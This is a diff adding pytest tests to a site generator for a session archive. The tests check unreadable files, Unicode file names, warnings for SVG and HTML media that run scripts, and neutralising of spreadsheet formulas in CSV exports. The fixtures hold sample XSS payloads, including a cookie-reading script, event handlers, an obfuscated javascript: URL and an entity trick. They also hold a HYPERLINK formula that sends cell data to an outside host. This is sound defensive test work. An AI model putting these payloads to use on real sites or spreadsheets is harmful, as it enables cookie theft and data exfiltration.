@@ -340,3 +340,158 @@ def test_a_name_the_file_system_cannot_hold_is_an_error_at_its_line(
     _good_archive(archive)
     archive.write(rel, text)
     _assert_reported(archive, capsys, expected)
+
+
+# --- unreadable files and folders ------------------------------------------------------------------
+
+def _as_unprivileged(archive: Archive, command: str) -> subprocess.CompletedProcess:
+    """Run the command so that file permissions hold: root reads everything through the
+    capabilities CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH, so as root they are dropped from the
+    bounding set (setpriv), which keeps the user (the test files stay its own) but not the bypass."""
+    args = [sys.executable, "-m", "kaffee_site", *archive.args(command, "--templates", str(TEMPLATES))]
+    if os.geteuid() == 0:
+        if shutil.which("setpriv") is None:
+            pytest.skip("running as root without setpriv (util-linux): root reads files whatever their mode")
+        args = ["setpriv", "--bounding-set=-dac_override,-dac_read_search", *args]
+    return subprocess.run(args, capture_output=True, text=True, cwd=archive.root)
+
+
+@pytest.mark.parametrize("rel, message", [  # (an unreadable session file was reported before issue 9)
+    ("sessions/2024", "sessions/2024: cannot read the folder: Permission denied"),
+    ("topics", "topics: cannot read the folder: Permission denied"),
+    ("media/bild.png", "media/bild.png: cannot read the file: Permission denied"),
+    ("media", "media: cannot read the folder: Permission denied"),
+    ("site.yaml", "site.yaml: cannot read the file: Permission denied"),
+])
+def test_an_unreadable_file_or_folder_is_an_error_naming_it(archive: Archive, rel: str, message: str):
+    before = _good_archive(archive)
+    archive.write("sessions/x.md", session_md("X", "2024-10-10"))
+    archive.write("sessions/2024/y.md", session_md("Y", "2024-11-11"))
+    target = archive.content / rel
+    target.chmod(0)
+    try:
+        for command, stream in (("check", "stdout"), ("build", "stderr")):
+            result = _as_unprivileged(archive, command)
+            assert result.returncode == 1, (result.stdout, result.stderr)
+            assert "Traceback" not in result.stderr
+            assert f"{archive.content}/{message}" in getattr(result, stream).splitlines()
+    finally:
+        target.chmod(0o755 if target.is_dir() else 0o644)
+    assert tree_snapshot(archive.output) == before
+
+
+# --- Unicode: one form for text and file names -------------------------------------------------------
+
+def _nfd(text: str) -> str:
+    return unicodedata.normalize("NFD", text)
+
+
+def test_a_name_typed_on_macos_and_on_linux_is_one_person(archive: Archive):
+    name = "Jörg Müller"
+    assert _nfd(name) != name
+    archive.write("sessions/a.md", session_md("A", "2024-09-05", speakers=f"[{{name: {_nfd(name)}, org: Kreis Föhr}}]",
+                                              topics=f"[{_nfd('Fördermittel')}]"))
+    archive.write("sessions/b.md", session_md("B", "2024-10-10", speakers=f"[{{name: {name}, org: {_nfd('Kreis Föhr')}}}]",
+                                              topics="[Fördermittel]"))
+    assert archive.build() == 0
+    people = sorted(p.name for p in (archive.output / "personen").iterdir() if p.is_dir())
+    assert people == ["joerg-mueller"]
+    page = archive.page("personen/joerg-mueller/")
+    assert page.count("sitzungen/a/") >= 1 and page.count("sitzungen/b/") >= 1
+    assert _nfd(name) not in page and name in page
+    assert sorted(p.name for p in (archive.output / "organisationen").iterdir() if p.is_dir()) == ["kreis-foehr"]
+    assert sorted(p.name for p in (archive.output / "themen").iterdir() if p.is_dir()) == ["foerdermittel"]
+    assert _nfd("Fördermittel").encode() not in _published(archive)
+
+
+def test_file_names_saved_decomposed_are_known_by_their_composed_name(archive: Archive, capsys):
+    archive.write(f"sessions/{_nfd('jörg-bericht')}.md", session_md("Bericht", image="{src: media/bild-ö.png, alt: Bild}",
+                                                                  body="![Karte](media/karte-ü.svg)"))
+    archive.write(f"media/{_nfd('bild-ö.png')}", b"png-bytes")
+    archive.write(f"media/{_nfd('karte-ü.svg')}", b"<svg xmlns='http://www.w3.org/2000/svg'/>")
+    assert main(archive.args("check", "--templates", str(TEMPLATES))) == 0, capsys.readouterr().out
+    assert archive.build() == 0
+    assert "Bericht" in archive.page("sitzungen/joerg-bericht/")
+    assert (archive.output / "media" / "bild-ö.png").read_bytes() == b"png-bytes"
+    assert (archive.output / "media" / "karte-ü.svg").is_file()
+    assert not (archive.output / "media" / _nfd("bild-ö.png")).exists()
+
+
+def test_two_files_whose_names_differ_only_in_unicode_form_are_an_error(archive: Archive, capsys):
+    _good_archive(archive)
+    archive.write("media/bild-ö.png", b"eins")
+    archive.write(f"media/{_nfd('bild-ö.png')}", b"zwei")
+    _assert_reported(archive, capsys, "media/bild-ö.png: two files have this name once their Unicode is normalised")
+
+
+# --- media that run scripts on the archive's origin --------------------------------------------------
+
+SVG_HEAD = '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n'
+ORIGIN = "opened on its own, it runs on the archive's own origin"
+
+
+@pytest.mark.parametrize("name, svg, expected", [
+    ("skript.svg", SVG_HEAD + '<circle r="4"/>\n<script>alert(document.cookie)</script>\n</svg>',
+     [f"media/skript.svg:4: warning: the picture has a <script> element: {ORIGIN}"]),
+    ("handler.svg", SVG_HEAD + '<rect width="1"\n  onload="alert(1)"/>\n</svg>',
+     [f"media/handler.svg:3: warning: the picture has the event handler attribute 'onload': {ORIGIN}"]),
+    ("link.svg", SVG_HEAD + '<a xlink:href="java\tscript:alert(1)"><text>x</text></a>\n</svg>',
+     [f"media/link.svg:3: warning: the picture has a javascript: URL in 'href': {ORIGIN}"]),
+    ("fremd.svg", SVG_HEAD + '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>\n</svg>',
+     [f"media/fremd.svg:3: warning: the picture has a <foreignObject> element (HTML inside): {ORIGIN}"]),
+    ("entity.svg", '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY s "&#60;script&#62;">]>\n'
+                   '<svg xmlns="http://www.w3.org/2000/svg">&s;\n<g onclick="x()"/></svg>',
+     [f"media/entity.svg:2: warning: the picture declares XML entities, which can spell out a script: {ORIGIN}",
+      f"media/entity.svg:4: warning: the picture has an event handler attribute (on…=): {ORIGIN}"]),
+    ("kaputt.svg", '<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)</script>\n<g>',
+     [f"media/kaputt.svg:2: warning: the picture has a <script> element: {ORIGIN}"]),
+    ("seite.html", "<!doctype html><script>alert(1)</script>",
+     ["media/seite.html: warning: an HTML page under media/ runs its scripts on the archive's own origin"]),
+    ("unter/seite.XHTML", "<html/>",
+     ["media/unter/seite.XHTML: warning: an HTML page under media/ runs its scripts on the archive's own origin"]),
+])
+def test_check_warns_about_media_that_can_run_scripts(archive: Archive, capsys, name: str, svg: str,
+                                                     expected: list[str]):
+    archive.write("sessions/a.md", session_md("A"))
+    archive.write(f"media/{name}", svg)
+    archive.write("media/harmlos.svg", SVG_HEAD + '<circle r="4" fill="#0a0"/><a href="/x/"><text>ok</text></a>\n</svg>')
+    capsys.readouterr()
+    assert main(archive.args("check", "--templates", str(TEMPLATES))) == 0
+    assert main(archive.args("check", "--templates", str(TEMPLATES), "--strict")) == 1
+    out = capsys.readouterr().out.splitlines()
+    problems = [line for line in out if not line.startswith(" ")]
+    assert problems == [f"{archive.content}/{line}" for line in expected] * 2
+    assert archive.build() == 0  # a warning: the build publishes what the editor chose
+
+
+# --- open data: no spreadsheet formulas -------------------------------------------------------------
+
+def test_csv_cells_that_would_be_formulas_are_neutralised_and_the_json_keeps_them(archive: Archive):
+    import csv
+    import io
+    import json
+
+    title = '=HYPERLINK("https://example.org/?d="&A1;"Klick")'
+    archive.write("sessions/a.md", session_md(
+        "'" + title.replace("'", "''") + "'", series="'+Serie'", topics="['@SUMME(1)', Open Data, '-2+3']",
+        speakers="[{name: '=Anna', org: '@Kreis'}, {name: Bo, org: '+49 Amt'}]"))
+    archive.write("sessions/b.md", session_md("Normal; =1+1", "2024-10-10"))
+    assert archive.build() == 0
+    raw = (archive.output / "daten" / "sessions.csv").read_bytes().decode("utf-8")
+    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
+    assert rows[0]["title"] == "'" + title
+    assert rows[0]["series"] == "'+Serie"
+    assert rows[0]["topics"] == "'@SUMME(1); Open Data; '-2+3"
+    assert rows[0]["speakers"] == "'=Anna; Bo"
+    assert rows[0]["organisations"] == "'@Kreis; '+49 Amt"
+    assert rows[1]["title"] == "Normal; =1+1"
+    assert '"Normal; =1+1"' in raw  # quoted: a spreadsheet that splits at ';' keeps it one cell
+    for row in csv.reader(io.StringIO(raw, newline="")):
+        for cell in row:
+            for part in cell.split(";"):
+                assert not part.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, part)
+    data = json.loads((archive.output / "daten" / "sessions.json").read_text(encoding="utf-8"))
+    first = data["sessions"][0]
+    assert first["title"] == title and first["series"] == "+Serie"
+    assert first["topics"] == ["@SUMME(1)", "Open Data", "-2+3"]
+    assert first["speakers"] == [{"name": "=Anna", "org": "@Kreis"}, {"name": "Bo", "org": "+49 Amt"}]
